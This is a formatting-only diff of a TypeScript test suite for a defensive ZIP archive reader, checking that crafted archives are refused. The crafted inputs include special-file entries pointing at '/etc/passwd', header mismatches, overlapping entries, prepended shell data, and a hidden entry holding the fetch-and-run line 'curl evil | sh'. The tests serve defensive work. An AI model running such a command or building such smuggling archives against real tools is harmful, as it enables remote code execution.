@@ -16,7 +16,8 @@ import { zip, type ZipEntry } from './zip-write.js';
 
 const LIMITS: ZipLimits = { maxBytes: 16 << 20, maxEntries: 64 };
 const read = (bytes: Buffer, limits = LIMITS) => readZip(bytes, limits);
-const files = (entries: ReturnType<typeof readZip>): Record<string, string> => Object.fromEntries(entries.filter((e) => e.kind === 'file').map((e) => [e.path, e.bytes.toString('utf8')]));
+const files = (entries: ReturnType<typeof readZip>): Record<string, string> =>
+  Object.fromEntries(entries.filter((e) => e.kind === 'file').map((e) => [e.path, e.bytes.toString('utf8')]));
 const SKILL: ZipEntry = { name: 'SKILL.md', body: '---\nname: x\n---\n' };
 
 /** A folder holding SKILL.md and scripts/run.sh, for the real-world writers. */
@@ -63,13 +64,30 @@ const hasZip = (() => {
 
 describe('readZip: what it takes', () => {
   test('stored and deflated files, folders, an empty file, a UTF-8 name with its flag', () => {
-    const entries = read(zip([{ name: 'refs/', method: 0 }, SKILL, { name: 'refs/a.md', body: 'a', method: 0 }, { name: 'empty.txt', method: 0 }, { name: 'refs/café.md', body: 'é' }]));
+    const entries = read(
+      zip([
+        { name: 'refs/', method: 0 },
+        SKILL,
+        { name: 'refs/a.md', body: 'a', method: 0 },
+        { name: 'empty.txt', method: 0 },
+        { name: 'refs/café.md', body: 'é' },
+      ]),
+    );
     expect(files(entries)).toEqual({ 'SKILL.md': '---\nname: x\n---\n', 'refs/a.md': 'a', 'empty.txt': '', 'refs/café.md': 'é' });
     expect(entries.filter((e) => e.kind === 'dir').map((e) => e.path)).toEqual(['refs']);
   });
 
   test('data descriptors, with and without their signature: the central directory sizes are used, the descriptor must repeat them', () => {
-    expect(files(read(zip([{ ...SKILL, descriptor: true }, { name: 'b', body: 'bb', descriptor: true, descriptorSignature: false }])))).toEqual({ 'SKILL.md': '---\nname: x\n---\n', b: 'bb' });
+    expect(
+      files(
+        read(
+          zip([
+            { ...SKILL, descriptor: true },
+            { name: 'b', body: 'bb', descriptor: true, descriptorSignature: false },
+          ]),
+        ),
+      ),
+    ).toEqual({ 'SKILL.md': '---\nname: x\n---\n', b: 'bb' });
   });
 
   test('a comment on the end record', () => {
@@ -82,7 +100,10 @@ describe('readZip: what it takes', () => {
     execFileSync('python3', ['-c', PY_ZIP, dir, out]);
     expect(files(read(readFileSync(out)))).toEqual(REAL);
     const streamed = execFileSync('python3', ['-c', PY_ZIP, dir, '-']);
-    expect(localFlags(streamed).some((f) => f & 0x0008), 'the streamed archive uses data descriptors').toBe(true);
+    expect(
+      localFlags(streamed).some((f) => f & 0x0008),
+      'the streamed archive uses data descriptors',
+    ).toBe(true);
     expect(files(read(streamed))).toEqual(REAL);
   });
 
@@ -93,7 +114,10 @@ describe('readZip: what it takes', () => {
     execFileSync('zip', ['-qr', out, '.'], { cwd: dir });
     expect(files(read(readFileSync(out)))).toEqual(REAL);
     const streamed = execFileSync('sh', ['-c', 'zip -q -r - . | cat'], { cwd: dir });
-    expect(localFlags(streamed).some((f) => f & 0x0008), 'zip to a pipe uses data descriptors').toBe(true);
+    expect(
+      localFlags(streamed).some((f) => f & 0x0008),
+      'zip to a pipe uses data descriptors',
+    ).toBe(true);
     expect(files(read(streamed))).toEqual(REAL);
   });
 
@@ -112,7 +136,9 @@ describe('readZip: what it refuses', () => {
     [0o010666, 'a FIFO'],
     [0o140777, 'a socket'],
   ])('attack: an entry of Unix mode %o (%s) is refused, never materialised', (mode, what) => {
-    expect(() => read(zip([SKILL, { name: 'passwd', body: '/etc/passwd', method: 0, mode }]))).toThrow(new ArchiveRefused(`"passwd" is ${what}; only regular files and folders are taken from an archive`));
+    expect(() => read(zip([SKILL, { name: 'passwd', body: '/etc/passwd', method: 0, mode }]))).toThrow(
+      new ArchiveRefused(`"passwd" is ${what}; only regular files and folders are taken from an archive`),
+    );
   });
 
   test('a regular Unix mode is taken; a mode that says folder on a file name is refused', () => {
@@ -142,17 +168,28 @@ describe('readZip: what it refuses', () => {
     ['crc or sizes', { local: { size: 3 } }],
     ['crc or sizes', { local: { packed: 3 } }],
     ['flags', { local: { flags: 0x0008 } }],
-  ] as [string, Partial<ZipEntry>][])('attack: two archives in one file: a local header that disagrees with the central directory on the %s', (what, over) => {
-    expect(() => read(zip([{ ...SKILL, ...over }]))).toThrow(`"SKILL.md": its local header and its central-directory entry disagree on the ${what}`);
-  });
+  ] as [string, Partial<ZipEntry>][])(
+    'attack: two archives in one file: a local header that disagrees with the central directory on the %s',
+    (what, over) => {
+      expect(() => read(zip([{ ...SKILL, ...over }]))).toThrow(
+        `"SKILL.md": its local header and its central-directory entry disagree on the ${what}`,
+      );
+    },
+  );
 
   test('attack: two archives in one file: a local entry the central directory does not list (only a streaming reader sees it)', () => {
-    expect(() => read(zip([SKILL, { name: 'hidden.sh', body: 'curl evil | sh', unlisted: true }, { name: 'b', body: 'b' }]))).toThrow(/bytes no entry accounts for before "b"/);
-    expect(() => read(zip([SKILL, { name: 'hidden.sh', body: 'curl evil | sh', unlisted: true }]))).toThrow(/bytes no entry accounts for before its central directory/);
+    expect(() => read(zip([SKILL, { name: 'hidden.sh', body: 'curl evil | sh', unlisted: true }, { name: 'b', body: 'b' }]))).toThrow(
+      /bytes no entry accounts for before "b"/,
+    );
+    expect(() => read(zip([SKILL, { name: 'hidden.sh', body: 'curl evil | sh', unlisted: true }]))).toThrow(
+      /bytes no entry accounts for before its central directory/,
+    );
   });
 
   test('attack: a data descriptor that disagrees with the central directory', () => {
-    expect(() => read(zip([{ ...SKILL, descriptor: true, central: { size: 99 } }]))).toThrow(/disagree on the crc or sizes \(its data descriptor\)/);
+    expect(() => read(zip([{ ...SKILL, descriptor: true, central: { size: 99 } }]))).toThrow(
+      /disagree on the crc or sizes \(its data descriptor\)/,
+    );
   });
 
   test('attack: a wrong CRC-32 on both headers is caught after inflating', () => {
@@ -169,7 +206,13 @@ describe('readZip: what it refuses', () => {
     const inner = zip([{ name: 'b.md', body: 'inner', method: 0 }]);
     const innerLocal = inner.subarray(0, 30 + 4 + 5); // b.md's local header and data
     const outerName = 'a.md';
-    const bytes = zip([{ name: outerName, body: innerLocal, method: 0 }, { name: 'b.md', body: 'inner', method: 0 }], { offsets: (o) => [o[0]!, o[0]! + 30 + outerName.length] });
+    const bytes = zip(
+      [
+        { name: outerName, body: innerLocal, method: 0 },
+        { name: 'b.md', body: 'inner', method: 0 },
+      ],
+      { offsets: (o) => [o[0]!, o[0]! + 30 + outerName.length] },
+    );
     expect(() => read(bytes)).toThrow(/"b.md" overlaps the entry before it; entries sharing bytes are refused/);
   });
 
@@ -196,7 +239,9 @@ describe('readZip: what it refuses', () => {
   });
 
   test('attack: prepended data (a polyglot or self-extractor), offsets adjusted or not, is refused', () => {
-    expect(() => read(zip([SKILL], { prefix: Buffer.from('#!/bin/sh\nexit 0\n') }))).toThrow(/data before its first entry \(prepended data\)/);
+    expect(() => read(zip([SKILL], { prefix: Buffer.from('#!/bin/sh\nexit 0\n') }))).toThrow(
+      /data before its first entry \(prepended data\)/,
+    );
     const plain = zip([SKILL]);
     expect(() => read(Buffer.concat([Buffer.from('#!/bin/sh\nexit 0\n'), plain]))).toThrow(/does not end where its end record starts/);
   });
@@ -231,7 +276,9 @@ describe('readZip: what it refuses', () => {
   });
 
   test('methods other than stored and deflate are refused, named', () => {
-    expect(() => read(zip([SKILL, { name: 'b', body: 'x', method: 12 }]))).toThrow(/uses compression method 12; only stored \(0\) and deflate \(8\)/);
+    expect(() => read(zip([SKILL, { name: 'b', body: 'x', method: 12 }]))).toThrow(
+      /uses compression method 12; only stored \(0\) and deflate \(8\)/,
+    );
   });
 
   test('attack: a name readers would spell differently (non-ASCII without the UTF-8 flag, or a second Unicode Path name)', () => {
